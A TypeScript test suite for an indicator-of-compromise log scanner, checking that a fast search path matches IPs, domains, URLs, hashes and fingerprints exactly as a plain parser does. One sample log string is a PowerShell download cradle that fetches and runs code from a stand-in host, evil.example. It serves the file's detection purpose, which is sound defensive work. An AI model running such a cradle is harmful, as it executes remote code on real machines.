import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { IndicatorSet } from '../indicators/indicatorSet.ts'
import type { IndicatorKind } from '../indicators/kinds.ts'
import { matchEvent } from '../indicators/matchEvent.ts'
import { readValue } from '../indicators/normal.ts'
import { readEvents } from '../sources/eventReader.ts'
import type { SourceFormat } from '../sources/format.ts'
import { hashKey } from './hash.ts'
import { LineSearch } from './lineSearch.ts'
import { Scanner } from './scanner.ts'

const bytesOf = (text: string) => new TextEncoder().encode(text)

const VALUES: readonly (readonly [string, IndicatorKind?])[] = [
  ['192.0.2.7'],
  ['198.51.100.0/24'],
  ['203.0.113.128/28'],
  ['2001:db8::7'],
  ['2001:db8:aa::/48'],
  ['evil.example'],
  ['co.uk'],
  ['bücher.example'],
  ['http://url.example/a%2fb?x=1'],
  ['https://192.0.2.99:8443/login'],
  ['ftp://barehost/file'],
  ['mail@bad.example'],
  ['d41d8cd98f00b204e9800998ecf8427e'],
  ['da39a3ee5e6b4b0d3255bfef95601890afd80709'],
  ['e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
  ['t13d1516h2_8daaf6152771_b186095e22b6'],
  ['0a1b2c3d4e5f6071', 'x509-serial'],
  ['Mozilla/4.0 (compatible; Evil 1.0)', 'user-agent'],
]

function setOf(values: readonly (readonly [string, IndicatorKind?])[]): IndicatorSet {
  const set = new IndicatorSet()
  for (const [text, kind] of values) {
    const value = readValue(text, kind)
    if (value === undefined) throw new Error(`${text} is no indicator`)
    set.add(value, { id: text })
  }
  return set
}

const set = setOf(VALUES)
const scanner = new Scanner(set.table.shared)

/** The plain path: every event is parsed and looked through. */
function plain(format: SourceFormat, bytes: Uint8Array): string[] {
  const hits: string[] = []
  const reader = readEvents(format, ({ line, value }) => {
    for (const hit of matchEvent(set.table, value)) hits.push(`${line} ${hit.field} ${hit.kind} ${hit.key}`)
  })
  reader.push(bytes)
  reader.end()
  return hits.toSorted()
}

function fast(format: SourceFormat, bytes: Uint8Array, size = bytes.length): string[] {
  const hits: string[] = []
  const search = new LineSearch(set.table, scanner, format, ({ line, field, kind, key }) =>
    hits.push(`${line} ${field} ${kind} ${key}`),
  )
  for (let at = 0; at < bytes.length; at += Math.max(1, size)) search.push(bytes.subarray(at, at + Math.max(1, size)))
  search.end()
  return hits.toSorted()
}

describe('the kernel', () => {
  it('is the one its source compiles to', () => {
    const script = join(import.meta.dirname, '../../../../../scripts/build-kernel.mjs')
    expect(execFileSync(process.execPath, [script, '--print'], { encoding: 'utf8' })).toBe(
      readFileSync(join(import.meta.dirname, 'kernelBytes.ts'), 'utf8'),
    )
  })

  it('hashes keys as the table does', () => {
    const out = new Int32Array(2)
    fc.assert(
      fc.property(fc.string({ unit: 'binary-ascii', maxLength: 300 }), (key) => {
        scanner.block.set(bytesOf(key))
        hashKey(key, out)
        expect(scanner.hashOf(key.length)).toEqual([...out])
      }),
    )
  })
})

describe('searching lines', () => {
  it('finds each kind of value in the spellings of real sources', () => {
    const texts: readonly (readonly [string, string])[] = [
      ['a', '192.0.2.7'],
      ['a', 'tcp://192.0.2.7:443/x'],
      ['a', '::ffff:192.0.2.7'],
      ['a', '::ffff:c000:207'],
      ['a', '198.51.100.200'],
      ['a', '203.0.113.130'],
      ['a', '2001:0DB8:0:0::7'],
      ['a', '[2001:db8::7]:443'],
      ['a', '2001:db8:aa:1::1'],
      ['a', 'EVIL.example.'],
      ['a', 'a.b.evil.example'],
      ['a', '\\\\\\\\x.evil.example\\\\share'],
      ['a', "powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')"],
      ['a', '\\nevil.example\\r'],
      ['a', '\\u0065vil.example'],
      ['a', 'evil\\u002eexample'],
      ['a', 'http:\\/\\/evil.example\\/x'],
      ['a', '“evil.example”'],
      ['a', 'www.bücher.example'],
      ['a', 'xn--bcher-kva.example'],
      ['a', 'bücher。example'],
      ['a', 'co.uk'],
      ['a', 'https://url.example:443/a%2Fb?x=1#top'],
      ['a', 'http://user:pw@URL.example/a%2fb?x=1'],
      ['a', 'ftp://barehost/file'],
      ['a', 'https://192.0.2.99:8443/login'],
      ['a', 'Evil <Mail@bad.example>'],
      ['a', 'SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E'],
      ['fingerprint', 'da:39:a3:ee:5e:6b:4b:0d:32:55:bf:ef:95:60:18:90:af:d8:07:09'],
      ['a', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
      ['ja4', 't13d1516h2_8daaf6152771_b186095e22b6'],
      ['serial', '0A:1B:2C:3D:4E:5F:60:71'],
      ['serial', '000A1B2C3D4E5F6071'],
      ['http_user_agent', 'Mozilla/4.0 (compatible; Evil 1.0)'],
    ]
    const bytes = bytesOf(texts.map(([field, text]) => `{"${field}":"${text}"}\n`).join(''))
    const hits = plain('json', bytes)
    expect(new Set(hits.map((hit) => hit.split(' ')[0])).size).toBe(texts.length)
    expect(fast('json', bytes)).toEqual(hits)
  })

  it('does not find what only looks alike', () => {
    const texts = [
      '192.0.2.70',
      '1192.0.2.7',
      '192.0.2.7.1',
      'notevil.example',
      'evil.example.org',
      'a.co.uk',
      'https://url.example/a/b?x=1',
      'x-mail@bad.example',
      '203.0.113.144',
      '2001:db8:ab::1',
    ]
    const bytes = bytesOf(texts.map((text) => `{"a":"${text}"}\n`).join(''))
    expect(plain('json', bytes)).toEqual([])
    expect(fast('json', bytes)).toEqual([])
  })

  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...VALUES.map(([text]) => text)) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '.',
        '-',
        '@',
        ':',
        '::',
        '/',
        '\\\\',
        '\\/',
        '\\n',
        '\\t',
        '\\u0065',
        '\\u003c',
        '\\"',
        ' ',
        'a',
        '0',
        'é',
        '®',
        '。',
        '．',
        '“',
        '\0',
        '"',
        '{',
        '}',
        '","b":"',
        '\n',
        '\r\n',
        '{"a":"',
        '"}',
        '"}\n{"a":"',
        ',',
        '[',
        ']',
        '\\',
        '#',
        '\t',
        '://',
        '=',
        '%2f',
        'EVIL.EXAMPLE',
        '::ffff:',
        'c000:207',
        'url.example',
        'barehost',
        'compatible',
        '99.9',
        'x.y',
        '\\x09',
        '\ufeff',
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 70 }) },
    { weight: 1, arbitrary: fc.nat(130).map((length) => 'z'.repeat(length)) },
  )
  const dirty = fc.array(piece, { maxLength: 30 }).map((parts) => parts.join(''))
  const lines = fc
    .array(
      fc.oneof(
        dirty.map((text) => `{"a":"${text}"}`),
        dirty,
      ),
      { maxLength: 8 },
    )
    .map((all) => all.join('\n'))

  for (const format of ['json', 'zeek-tsv', 'text'] as const)
    it(`finds in ${format} exactly what the plain path finds`, () => {
      const head = format === 'zeek-tsv' ? '#fields\ta\tb\n#types\tstring\taddr\n' : ''
      let found = 0
      fc.assert(
        fc.property(lines, (text) => {
          const bytes = bytesOf(head + text)
          const hits = plain(format, bytes)
          found += hits.length
          expect(fast(format, bytes)).toEqual(hits)
        }),
        { numRuns: 3_000 },
      )
      expect(found).toBeGreaterThan(1_000)
    })

  it('finds the same in broken UTF-8, in lines longer than a block and over its edges', () => {
    const hit = '{"a":"x.evil.example"}\n'
    const long = `{"a":"${'evil.example '.repeat(200_000)}","b":"${'é'.repeat(20)}","c":"192.0.2.7"}\n`
    const filler = `{"n":"${'x'.repeat(997)}"}\n`.repeat(2_500)
    const whole = bytesOf(hit + filler + hit + long + hit + filler.slice(0, 1_000_000) + hit + long.slice(0, -3))
    whole[30] = 0xff
    const hits = plain('json', whole)
    expect(hits.length).toBeGreaterThan(4)
    for (const size of [whole.length, 65_536, 999_983]) expect([size, fast('json', whole, size)]).toEqual([size, hits])
  })

  it('finds the same in many short lines, found and odd ones side by side, beyond what one scan tells', () => {
    const kinds = [
      '{"a":"x.evil.example"}',
      'odd 192.0.2.7',
      '',
      '{"a":"10.0.0.1","b":"a.b.c.example"}',
      '{"a":"192.0.2.7"}',
      '{}',
    ]
    const text = Array.from({ length: 20_000 }, (_, i) => kinds[(i * 7 + (i >> 5)) % kinds.length]).join('\n')
    // Odd lines alone fill the records of a scan.
    const odd = 'x\n'.repeat(150_000)
    for (const bytes of [bytesOf(text), bytesOf(`${odd}{"a":"192.0.2.7"}\n${odd}`)]) {
      const hits = plain('json', bytes)
      expect(hits.length).toBeGreaterThan(0)
      expect(fast('json', bytes)).toEqual(hits)
    }
  })
})
